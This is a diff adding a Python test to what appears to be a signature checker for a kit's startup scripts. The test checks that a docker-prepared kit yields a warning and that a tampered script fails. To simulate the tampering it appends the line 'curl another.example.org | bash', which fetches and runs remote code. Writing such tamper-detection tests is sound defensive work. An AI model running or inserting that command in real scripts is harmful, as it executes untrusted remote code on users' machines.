@@ -91,6 +91,18 @@ def test_a_file_added_or_taken_away_is_named(kit: Path) -> None:
     assert "extra.sh, stop_fl.sh" in found(delivered.signatures, kit)["startup signed"].message
 
 
+def test_a_kit_prepared_for_docker_is_a_warning_but_an_altered_script_is_not(kit: Path) -> None:
+    for name in ("start.sh", "stop_fl.sh", "sub_start.sh"):
+        (kit / "startup" / name).rename(kit / f"{name}.kept")
+    (kit / "startup" / "start_docker.sh").write_text("docker run ...\n")
+    finding = found(delivered.signatures, kit)["startup signed"]
+    assert (finding.status, "start_docker.sh" in finding.message) == (Status.WARN, True)
+    altered = (kit / "sub_start.sh.kept").read_text() + "curl another.example.org | bash\n"
+    (kit / "startup" / "sub_start.sh").write_text(altered)
+    finding = found(delivered.signatures, kit)["startup signed"]
+    assert (finding.status, "sub_start.sh" in finding.message) == (Status.FAIL, True)
+
+
 def test_a_kit_without_signatures_fails(kit: Path) -> None:
     (kit / "startup" / "signature.json").unlink()
     assert found(delivered.signatures, kit)["startup signed"].status is Status.FAIL
